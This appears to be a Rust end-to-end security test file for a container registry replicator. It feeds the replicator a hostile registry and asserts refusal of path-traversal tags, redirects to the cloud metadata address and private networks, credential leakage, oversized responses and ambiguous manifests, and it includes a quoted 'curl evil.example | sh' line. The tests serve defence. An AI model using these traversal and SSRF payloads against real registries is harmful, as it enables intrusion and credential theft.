//! A hostile source registry (tests/src/hostile.rs) plays each attack against the replicator;
//! every test checks what reached the destination (by digest, through the destination's own
//! request log) and where requests went.

use e2e::hostile::{HostileRegistry, Sink};
use e2e::image::{Format, ImageBuilder, Pusher};
use e2e::registry::TestRegistry;
use oci::{Credential, Digest, Repository, UploadSession};
use replication::connect::{Connections, Settings};
use replication::Job;
use serde_json::json;

fn settings() -> Settings {
    Settings {
        registry: e2e::fast_retry_config(&[]),
        ..Settings::default()
    }
}

fn job(source: &str, dest: &str, extra: serde_json::Value) -> Job {
    let mut job = json!({
        "source": {"registry": source, "insecure": true},
        "destinations": [{"registry": dest, "insecure": true}],
    });
    for (k, v) in extra.as_object().unwrap() {
        job[k] = v.clone();
    }
    Job::from_json(&job.to_string()).unwrap()
}

fn repo(host: &str, name: &str) -> Repository {
    Repository {
        registry: host.to_string(),
        name: name.to_string(),
    }
}

#[tokio::test]
async fn forged_tags_with_dot_segments_and_slashes_never_reach_a_url() {
    let (src, dst) = (TestRegistry::start(), TestRegistry::start());
    let image = ImageBuilder::new(Format::Oci).layer(1, 2000).build();
    Pusher::new(&src.host, None).push("app", "v1", &image).await;
    let victim = ImageBuilder::new(Format::Oci).layer(2, 500).build();
    Pusher::new(&dst.host, None)
        .push("victim", "keep", &victim)
        .await;
    let hostile = HostileRegistry::start(&src.host);
    let forged = [
        "../../../victim/manifests/pwn",
        "..",
        "v1/../../victim",
        "a%2Fb",
        "x?y=z",
    ];
    hostile.attack(|a| a.forged_tags = forged.iter().map(|t| t.to_string()).collect());
    // The destination behind a recorder: every request it receives is logged.
    let recorder = HostileRegistry::start(&dst.host);

    let output = replication::run::run_job(
        &Connections::new(settings()),
        job(&hostile.host, &recorder.host, json!({})),
        &replication::run::Quiet,
    )
    .await
    .unwrap();

    let report = &output.report;
    assert_eq!((report.copied, report.failed), (1, 0), "{report:?}");
    assert_eq!(report.refused, forged.len(), "{report:?}");
    assert!(
        report
            .refusals
            .iter()
            .any(|r| r.contains("../../../victim/manifests/pwn")),
        "{:?}",
        report.refusals
    );
    let to_destination = recorder.requests();
    for line in &to_destination {
        assert!(
            !line.contains("victim")
                && !line.contains("..")
                && !line.to_lowercase().contains("%2f"),
            "a forged name reached the destination: {line}"
        );
    }
    let to_source = hostile.requests();
    assert!(
        to_source
            .iter()
            .all(|l| !l.contains("pwn") && !l.contains("/manifests/..")),
        "{to_source:?}"
    );
    // What arrived is the real image, byte for byte; the victim repository is untouched.
    assert_eq!(
        e2e::skopeo::inspect_raw(&format!("{}/app:v1", dst.host), None),
        image.manifest.to_vec()
    );
    let target = Pusher::new(&dst.host, None);
    assert_eq!(
        target.manifest("victim", "keep").await.unwrap(),
        victim.manifest
    );
    assert!(target.manifest("victim", "pwn").await.is_none());
}

#[tokio::test]
async fn forged_repository_names_in_the_catalog_are_refused_and_never_requested() {
    let src = TestRegistry::start();
    Pusher::new(&src.host, None)
        .push(
            "team/app",
            "v1",
            &ImageBuilder::new(Format::Oci).layer(9, 100).build(),
        )
        .await;
    let hostile = HostileRegistry::start(&src.host);
    hostile.attack(|a| {
        a.forged_repositories = vec!["../victim".into(), "team/../../x".into(), "UP".into()]
    });
    let dst = TestRegistry::start();

    let output = replication::run::run_job(
        &Connections::new(settings()),
        job(&hostile.host, &dst.host, json!({})),
        &replication::run::Quiet,
    )
    .await
    .unwrap();

    let report = &output.report;
    assert_eq!(
        (report.copied, report.failed, report.repositories_failed),
        (1, 0, 0),
        "{report:?}"
    );
    let page = replication::steps::enumerate_repositories(
        &Connections::new(settings()),
        replication::steps::EnumerateRepositoriesInput {
            job: job(&hostile.host, &dst.host, json!({})),
            next_token: None,
            report: None,
            pages: 0,
        },
    )
    .await
    .unwrap();
    // The one valid repository, copied above, is checked and settled (nothing to do).
    assert_eq!((page.repositories.len(), page.settled), (0, 1), "{page:?}");
    assert_eq!(page.refused.len(), 3, "{:?}", page.refused);
    // Neither the run nor the check asked for a forged name.
    let asked = hostile.requests();
    assert!(
        asked
            .iter()
            .all(|l| !l.contains("victim") && !l.contains("/x/") && !l.contains("/UP/")),
        "{asked:?}"
    );
}

#[tokio::test]
async fn listings_that_page_forever_or_in_place_are_refused_within_bounds() {
    let src = TestRegistry::start();
    let hostile = HostileRegistry::start(&src.host);
    let client = e2e::client(&[&hostile.host], &[]);

    hostile.attack(|a| a.stuck_pages = true);
    let stuck = client
        .list_tags(&repo(&hostile.host, "app"))
        .await
        .unwrap_err();
    assert!(
        matches!(&stuck, oci::Error::Registry { message, .. } if message.contains("without advancing")),
        "{stuck}"
    );
    assert_eq!(hostile.requests().len(), 2, "{:?}", hostile.requests());

    hostile.attack(|a| {
        a.stuck_pages = false;
        a.endless_pages = true;
    });
    let endless = client
        .list_tags(&repo(&hostile.host, "app"))
        .await
        .unwrap_err();
    assert!(
        matches!(&endless, oci::Error::ResponseTooLarge { limit, .. } if limit.contains("pages")),
        "{endless}"
    );
    let asked = hostile.requests().len() - 2;
    assert_eq!(
        asked,
        oci::MAX_LISTING_PAGES,
        "pages asked of an endless listing"
    );
}

#[tokio::test]
async fn huge_tag_lists_error_bodies_and_tokens_are_read_only_up_to_their_bound() {
    let src = TestRegistry::start();
    let hostile = HostileRegistry::start(&src.host);
    let client = e2e::client(&[&hostile.host], &[]);

    hostile.attack(|a| a.huge_tag_list = Some(512 << 20));
    let err = client
        .list_tags(&repo(&hostile.host, "app"))
        .await
        .unwrap_err();
    assert!(matches!(err, oci::Error::ResponseTooLarge { .. }), "{err}");
    let sent = hostile.huge_bytes_sent();
    assert!(
        sent < 32 << 20,
        "{sent} bytes of a 512 MiB tag list were read"
    );

    hostile.attack(|a| {
        a.huge_tag_list = None;
        a.huge_errors = Some(512 << 20);
    });
    let reference = oci::Reference::parse(&format!("{}/app:missing", hostile.host)).unwrap();
    let err = client.get_manifest(&reference).await.unwrap_err();
    assert!(err.is_not_found(), "{err}");
    let error_bytes = hostile.huge_bytes_sent() - sent;
    assert!(
        error_bytes < 32 << 20,
        "{error_bytes} bytes of a 512 MiB error body were read"
    );

    // A token service answering an endless token.
    hostile.attack(|a| {
        a.huge_errors = None;
        a.huge_token = Some(512 << 20);
    });
    let before = hostile.huge_bytes_sent();
    let err = client.get_manifest(&reference).await.unwrap_err();
    assert!(matches!(err, oci::Error::ResponseTooLarge { .. }), "{err}");
    let token_bytes = hostile.huge_bytes_sent() - before;
    assert!(
        token_bytes < 32 << 20,
        "{token_bytes} bytes of a 512 MiB token response were read"
    );
}

#[tokio::test]
async fn credentials_stay_with_the_registry_across_redirects_and_signed_urls_stay_out_of_errors() {
    let src = TestRegistry::start_with_auth("user", "secret");
    let image = ImageBuilder::new(Format::Oci).layer(3, 1000).build();
    Pusher::new(&src.host, src.credentials.clone())
        .push("app", "v1", &image)
        .await;
    let hostile = HostileRegistry::start(&src.host);
    // Storage that redirects once within itself: the second hop is on the storage's origin,
    // not the registry's, and must go as bare as the first.
    let storage = Sink::start("127.0.0.1", None);
    hostile.attack(|a| a.blob_redirect_to = Some(storage.host.clone()));
    let client = e2e::client(
        &[&hostile.host],
        &[(
            &hostile.host,
            Credential::Basic {
                username: "user".into(),
                password: "secret".into(),
            },
        )],
    );
    let layer = Digest::parse(&image.blobs[1].digest).unwrap();
    // The registry's challenge is learnt first: from then on its requests carry credentials.
    let tagged = oci::Reference::parse(&format!("{}/app:v1", hostile.host)).unwrap();
    assert!(client.head_manifest(&tagged).await.unwrap().is_some());

    let err = match client
        .get_blob(&repo(&hostile.host, "app"), &layer, 0)
        .await
    {
        Ok(_) => panic!("the storage serves nothing"),
        Err(e) => e,
    };

    let at_storage = storage.requests();
    assert_eq!(at_storage.len(), 2, "{at_storage:?}");
    assert!(
        at_storage.iter().all(|l| !l.ends_with(" auth")),
        "the registry's credentials went to storage: {at_storage:?}"
    );
    assert!(
        hostile.requests().iter().any(|l| l.ends_with(" auth")),
        "the registry itself got them"
    );
    let text = format!("{err} {err:?}");
    assert!(
        !text.contains("SESSION-SECRET") && !text.contains("X-Amz"),
        "{text}"
    );

    // A transport error on a presigned URL (nothing listens there) names no query either.
    hostile.attack(|a| a.blob_redirect_to = Some("127.0.0.1:1".into()));
    let err = match client
        .get_blob(&repo(&hostile.host, "app"), &layer, 0)
        .await
    {
        Ok(_) => panic!("nothing listens on port 1"),
        Err(e) => e,
    };
    assert!(matches!(err, oci::Error::Transport { .. }), "{err}");
    let text = format!("{err} {err:?} {}", error_chain(&err));
    assert!(
        !text.contains("SESSION-SECRET") && !text.contains("X-Amz"),
        "{text}"
    );
}

/// A blob GET answered by a redirect to the instance metadata service (169.254.169.254, in
/// any spelling) or a private network is refused before anything is sent there; storage on
/// another origin that refuses the presigned URL has its error document (S3's echoes the
/// request it refused, signature and session token included) kept out of the error: only its
/// status and host are named.
#[tokio::test]
async fn blob_redirects_to_private_addresses_are_refused_unsent_and_storage_bodies_never_quoted() {
    let src = TestRegistry::start_with_auth("user", "secret");
    let image = ImageBuilder::new(Format::Oci).layer(7, 1000).build();
    Pusher::new(&src.host, src.credentials.clone())
        .push("app", "v1", &image)
        .await;
    let hostile = HostileRegistry::start(&src.host);
    let client = e2e::client(
        &[&hostile.host],
        &[(
            &hostile.host,
            Credential::Basic {
                username: "user".into(),
                password: "secret".into(),
            },
        )],
    );
    let app = repo(&hostile.host, "app");
    let layer = Digest::parse(&image.blobs[1].digest).unwrap();
    // The registry's challenge is learnt first: each blob GET below is then one request.
    let tagged = oci::Reference::parse(&format!("{}/app:v1", hostile.host)).unwrap();
    assert!(client.head_manifest(&tagged).await.unwrap().is_some());

    for (target, named) in [
        ("169.254.169.254", "169.254.169.254"),
        ("2852039166", "169.254.169.254"),
        ("[::ffff:169.254.169.254]", "link-local"),
        ("[fd00:ec2::254]", "fd00:ec2::254"),
        ("10.0.0.8:9000", "10.0.0.8"),
        ("192.168.1.20", "192.168.1.20"),
        ("0.0.0.0:2375", "0.0.0.0"),
    ] {
        hostile.attack(|a| a.blob_redirect_to = Some(target.into()));
        let before = hostile.requests().len();
        let started = std::time::Instant::now();
        let err = match client.get_blob(&app, &layer, 0).await {
            Ok(_) => panic!("a redirect to {target} was followed"),
            Err(e) => e,
        };
        // Refused as a redirect, not a connection that failed: nothing was sent there (no
        // connection attempt, which would take the connect timeout or fail as transport).
        assert!(
            matches!(err, oci::Error::OriginRefused { .. }),
            "{target}: {err}"
        );
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{target}: {:?}",
            started.elapsed()
        );
        let text = format!("{err} {err:?}");
        assert!(text.contains(named) && text.contains("redirect"), "{text}");
        assert!(!text.contains("SESSION-SECRET"), "{text}");
        // The registry was asked once (the blob GET it redirected); nothing was retried.
        let asked = hostile.requests()[before..].to_vec();
        assert_eq!(asked.len(), 1, "{target}: {asked:?}");
    }

    // Storage on another origin (a loopback registry may use loopback storage) refuses the
    // presigned URL with S3's error document, which quotes the request it was sent.
    let echoed =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Error><Code>SignatureDoesNotMatch</Code>\
        <Message>The request signature we calculated does not match</Message><StringToSign>\
        AWS4-HMAC-SHA256 X-Amz-Security-Token=SESSION-ECHOED-BY-STORAGE</StringToSign></Error>";
    let storage = Sink::answering("127.0.0.1", 403, echoed);
    hostile.attack(|a| a.blob_redirect_to = Some(storage.host.clone()));
    let err = match client.get_blob(&app, &layer, 0).await {
        Ok(_) => panic!("the storage refuses everything"),
        Err(e) => e,
    };
    let text = format!("{err} {err:?} {}", error_chain(&err));
    assert!(
        text.contains("403") && text.contains(&storage.host),
        "{text}"
    );
    for quoted in [
        "SignatureDoesNotMatch",
        "SESSION-ECHOED",
        "StringToSign",
        "does not match",
    ] {
        assert!(
            !text.contains(quoted),
            "storage's body quoted ({quoted}): {text}"
        );
    }
    // It was reached without the registry's credentials (one bounce within itself, then 403).
    let at_storage = storage.requests();
    assert!(!at_storage.is_empty(), "{at_storage:?}");
    assert!(
        at_storage.iter().all(|l| !l.ends_with(" auth")),
        "{at_storage:?}"
    );
}

/// A registry answering 401 with a Bearer realm elsewhere: the client's Basic credentials for
/// the registry never go in clear to another origin (another port of the same host here), nor
/// anywhere to a link-local or private address; an anonymous client may still ask a plain-HTTP
/// realm for a token (it sends nothing secret), never one at the metadata address.
#[tokio::test]
async fn bearer_realms_elsewhere_get_no_credentials_in_clear_and_none_at_private_addresses() {
    let src = TestRegistry::start();
    let image = ImageBuilder::new(Format::Oci).layer(8, 100).build();
    Pusher::new(&src.host, None).push("app", "v1", &image).await;
    let hostile = HostileRegistry::start(&src.host);
    let realm = Sink::start("127.0.0.1", None);
    let with_credentials = e2e::client(
        &[&hostile.host],
        &[(
            &hostile.host,
            Credential::Basic {
                username: "user".into(),
                password: "secret".into(),
            },
        )],
    );
    let anonymous = e2e::client(&[&hostile.host], &[]);
    let reference = oci::Reference::parse(&format!("{}/app:v1", hostile.host)).unwrap();

    hostile.attack(|a| a.bearer_realm = Some(format!("http://{}/token", realm.host)));
    let err = with_credentials.get_manifest(&reference).await.unwrap_err();
    assert!(matches!(err, oci::Error::OriginRefused { .. }), "{err}");
    assert!(err.to_string().contains(&realm.host), "{err}");
    assert_eq!(
        realm.requests(),
        Vec::<String>::new(),
        "the realm was asked"
    );

    // Without credentials the token request goes, bare (the realm answers 404 here).
    assert!(anonymous.get_manifest(&reference).await.is_err());
    let asked = realm.requests();
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(!asked[0].ends_with(" auth"), "{asked:?}");

    // A realm on another origin is named by its status, its body never quoted (whatever it
    // says reaches no report), refusing (403) or failing (500).
    for status in [403, 500] {
        let quoted = "ATTACKER-TEXT: run curl evil.example | sh";
        let body = format!(r#"{{"errors":[{{"code":"DENIED","message":"{quoted}"}}]}}"#);
        let realm = Sink::answering("127.0.0.1", status, &body);
        hostile.attack(|a| a.bearer_realm = Some(format!("http://{}/token", realm.host)));
        let anonymous = e2e::client(&[&hostile.host], &[]);
        let err = anonymous.get_manifest(&reference).await.unwrap_err();
        let text = format!("{err} {err:?}");
        assert!(text.contains(&status.to_string()), "{status}: {text}");
        assert!(!text.contains("ATTACKER-TEXT"), "{status}: quoted: {text}");
        // A 500 is retried like any server error; a 403 is asked once.
        let asked = realm.requests().len();
        assert!(
            asked == 1 || (status == 500 && asked > 1),
            "{status}: {asked}"
        );
    }

    for metadata in [
        "http://169.254.169.254/token",
        "http://[::ffff:a9fe:a9fe]/token",
    ] {
        hostile.attack(|a| a.bearer_realm = Some(metadata.into()));
        // New clients: the ones above keep the challenge they were given.
        let with_credentials = e2e::client(
            &[&hostile.host],
            &[(&hostile.host, Credential::BasicToken("c2VjcmV0".into()))],
        );
        let anonymous = e2e::client(&[&hostile.host], &[]);
        for client in [&with_credentials, &anonymous] {
            let started = std::time::Instant::now();
            let err = client.get_manifest(&reference).await.unwrap_err();
            assert!(
                matches!(err, oci::Error::OriginRefused { .. }),
                "{metadata}: {err}"
            );
            assert!(err.to_string().contains("link-local"), "{err}");
            assert!(started.elapsed() < std::time::Duration::from_secs(5));
        }
    }
}

fn error_chain(e: &dyn std::error::Error) -> String {
    let mut text = String::new();
    let mut source = e.source();
    while let Some(s) = source {
        text.push_str(&format!(" <- {s} {s:?}"));
        source = s.source();
    }
    text
}

#[tokio::test]
async fn referrers_links_and_upload_sessions_stay_on_the_registry_origin() {
    let src = TestRegistry::start();
    let image = ImageBuilder::new(Format::Oci).layer(4, 100).build();
    Pusher::new(&src.host, None).push("app", "v1", &image).await;
    let hostile = HostileRegistry::start(&src.host);
    let elsewhere = Sink::start("127.0.0.1", None);
    let client = e2e::client(&[&hostile.host], &[]);
    let app = repo(&hostile.host, "app");

    hostile.attack(|a| a.referrers_link_to = Some(elsewhere.host.clone()));
    let err = client
        .referrers(&app, &Digest::parse(&image.digest).unwrap())
        .await
        .unwrap_err();
    assert!(matches!(err, oci::Error::OriginRefused { .. }), "{err}");

    hostile.attack(|a| a.upload_location_host = Some(elsewhere.host.clone()));
    let err = client.start_upload(&app).await.unwrap_err();
    assert!(matches!(err, oci::Error::OriginRefused { .. }), "{err}");

    // A session carried in a step's input that names another host is not continued.
    let carried = UploadSession {
        registry: hostile.host.clone(),
        repository: "app".into(),
        location: format!("http://{}/v2/app/blobs/uploads/u", elsewhere.host),
        offset: 0,
    };
    let err = client
        .upload_part(carried, reqwest::Body::from("x"), 1)
        .await
        .unwrap_err();
    assert!(matches!(err, oci::Error::OriginRefused { .. }), "{err}");

    assert_eq!(elsewhere.requests(), Vec::<String>::new());
}

#[tokio::test]
async fn prune_keeps_a_tag_whose_manifest_the_source_would_not_serve() {
    let (src, dst) = (TestRegistry::start(), TestRegistry::start());
    let source = Pusher::new(&src.host, None);
    let (a, b) = (
        ImageBuilder::new(Format::Oci).layer(5, 100).build(),
        ImageBuilder::new(Format::Oci).layer(6, 100).build(),
    );
    source.push("app", "a", &a).await;
    source.push("app", "b", &b).await;
    let hostile = HostileRegistry::start(&src.host);
    let conns = Connections::new(settings());
    let first = replication::run::run_job(
        &conns,
        job(&hostile.host, &dst.host, json!({"prune": true})),
        &replication::run::Quiet,
    )
    .await
    .unwrap();
    assert_eq!(first.report.copied, 2, "{:?}", first.report);

    // The source answers 404 for b's manifest (a transient or content-negotiation refusal): b
    // is still in its tag list, so it is the source's, and stays in the destination.
    hostile.attack(|x| x.hidden_tags = vec!["b".into()]);
    let second = replication::run::run_job(
        &Connections::new(settings()),
        job(&hostile.host, &dst.host, json!({"prune": true})),
        &replication::run::Quiet,
    )
    .await
    .unwrap();

    assert_eq!(second.report.tags_pruned, 0, "{:?}", second.report);
    assert_eq!(
        Pusher::new(&dst.host, None)
            .manifest("app", "b")
            .await
            .unwrap(),
        b.manifest
    );
}

#[tokio::test]
async fn two_sources_mapped_onto_one_destination_repository_are_not_pruned() {
    let (src, dst) = (TestRegistry::start(), TestRegistry::start());
    let source = Pusher::new(&src.host, None);
    let (new, old) = (
        ImageBuilder::new(Format::Oci).layer(7, 100).build(),
        ImageBuilder::new(Format::Oci).layer(8, 100).build(),
    );
    source.push("app", "v1", &new).await;
    source.push("app-old", "v0", &old).await;
    let merging = json!({
        "prune": true,
        "destinations": [{"registry": dst.host, "insecure": true,
            "repositoryMapping": [{"match": "(.*)-old", "replace": "$1"}]}],
    });
    let mut reports = Vec::new();
    for _ in 0..3 {
        let output = replication::run::run_job(
            &Connections::new(settings()),
            job(&src.host, &dst.host, merging.clone()),
            &replication::run::Quiet,
        )
        .await
        .unwrap();
        reports.push(output.report);
    }

    // Both images stay: neither repository's run removes the other's tag.
    let target = Pusher::new(&dst.host, None);
    assert_eq!(target.manifest("app", "v1").await.unwrap(), new.manifest);
    assert_eq!(target.manifest("app", "v0").await.unwrap(), old.manifest);
    for report in &reports[1..] {
        assert_eq!((report.tags_pruned, report.copied), (0, 0), "{report:?}");
        assert!(
            report
                .kept
                .iter()
                .any(|k| k.contains("app-old") && k.contains("map onto")),
            "{:?}",
            report.kept
        );
    }

    // A rule that visibly merges repositories is refused before any run.
    let visible = json!({
        "prune": true,
        "destinations": [{"registry": dst.host, "insecure": true,
            "repositoryMapping": [{"match": "team-.*", "replace": "shared"}]}],
    });
    let err = job(&src.host, &dst.host, visible).validate().unwrap_err();
    assert!(
        err.to_string()
            .contains("destinations[0].repositoryMapping[0]"),
        "{err}"
    );
}

/// An image whose manifest says two things: `layers` names a harmless layer, and a second key
/// (`extra_key`) that Go's encoding/json also reads as `layers` names another. The source
/// (distribution) stores and serves the bytes as pushed.
fn ambiguous_image(seed: u64, extra_key: &str) -> (e2e::image::TestImage, e2e::image::Blob) {
    let harmless = ImageBuilder::new(Format::Oci).layer(seed, 300).build();
    let runnable = e2e::image::Blob::from_bytes(e2e::image::pseudo_random(seed + 1, 400));
    let mut manifest: serde_json::Value = serde_json::from_slice(&harmless.manifest).unwrap();
    let layers = serde_json::to_string(&manifest["layers"]).unwrap();
    let hidden = serde_json::to_string(&json!([{
        "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
        "size": 400,
        "digest": runnable.digest,
    }]))
    .unwrap();
    manifest.as_object_mut().unwrap().remove("layers");
    let mut text = serde_json::to_string(&manifest).unwrap();
    text.pop();
    text.push_str(&format!(r#","layers":{layers},"{extra_key}":{hidden}}}"#));
    let bytes = bytes::Bytes::from(text);
    let mut blobs = harmless.blobs.clone();
    blobs.push(runnable.clone());
    let image = e2e::image::TestImage {
        digest: e2e::image::sha256(&bytes),
        manifest: bytes,
        media_type: harmless.media_type,
        blobs,
        children: Vec::new(),
    };
    (image, runnable)
}

#[tokio::test]
async fn ambiguous_manifests_are_refused_and_nothing_of_them_is_copied() {
    let (src, dst) = (TestRegistry::start(), TestRegistry::start());
    let source = Pusher::new(&src.host, None);
    let (case_variant, runnable_a) = ambiguous_image(40, "Layers");
    let (repeated, runnable_b) = ambiguous_image(50, "layers");
    source.push("app", "case-variant", &case_variant).await;
    source.push("dup", "repeated", &repeated).await;
    let clean = ImageBuilder::new(Format::Oci).layer(60, 200).build();
    source.push("clean", "v1", &clean).await;
    // Beside the hostile tag, a good one of the same repository: it still travels.
    source.push("app", "good", &clean).await;

    // The documents really are served as written: skopeo (Go) reads them byte for byte, both
    // keys in them.
    for (image, served, key, times) in [
        ("app:case-variant", &case_variant, r#""Layers":"#, 1),
        ("dup:repeated", &repeated, r#""layers":"#, 2),
    ] {
        let raw = e2e::skopeo::inspect_raw(&format!("{}/{image}", src.host), None);
        assert_eq!(raw, served.manifest.to_vec(), "{image}");
        let text = String::from_utf8(raw).unwrap();
        assert!(
            text.contains(r#""layers":"#) && text.matches(key).count() == times,
            "{text}"
        );
    }

    let output = replication::run::run_job(
        &Connections::new(settings()),
        job(&src.host, &dst.host, json!({})),
        &replication::run::Quiet,
    )
    .await
    .unwrap();

    let report = &output.report;
    // Read by tag when the repository is listed, each is refused there alone, named with what
    // makes its manifest ambiguous; the rest of its repository goes on.
    for (tag, found) in [
        (
            "case-variant",
            r#"$: key "Layers" differs from the defined field "layers""#,
        ),
        ("repeated", r#"$: key "layers" appears twice"#),
    ] {
        assert!(
            report
                .refusals
                .iter()
                .any(|r| r.contains(tag) && r.contains("ambiguous manifest") && r.contains(found)),
            "{report:?}"
        );
    }
    assert_eq!(
        (report.refused, report.repositories_failed),
        (2, 0),
        "{report:?}"
    );
    assert_eq!(report.copied, 2, "{report:?}");
    assert_eq!(
        Pusher::new(&dst.host, None)
            .manifest("app", "good")
            .await
            .unwrap(),
        clean.manifest
    );

    // Nothing of either reached the destination: not by tag, not by digest, no blob.
    let target = Pusher::new(&dst.host, None);
    assert_eq!(
        target.manifest("clean", "v1").await.unwrap(),
        clean.manifest
    );
    for (repository, tag, image, runnable) in [
        ("app", "case-variant", &case_variant, &runnable_a),
        ("dup", "repeated", &repeated, &runnable_b),
    ] {
        assert!(target.manifest(repository, tag).await.is_none(), "{tag}");
        assert!(
            target.manifest(repository, &image.digest).await.is_none(),
            "{tag}"
        );
        for blob in image.blobs.iter().chain([runnable]) {
            assert!(
                !target.has_blob(repository, &blob.digest).await,
                "{tag}: {} was copied",
                blob.digest
            );
        }
    }
    assert!(!e2e::skopeo::exists(&format!(
        "{}/app:case-variant",
        dst.host
    )));
}
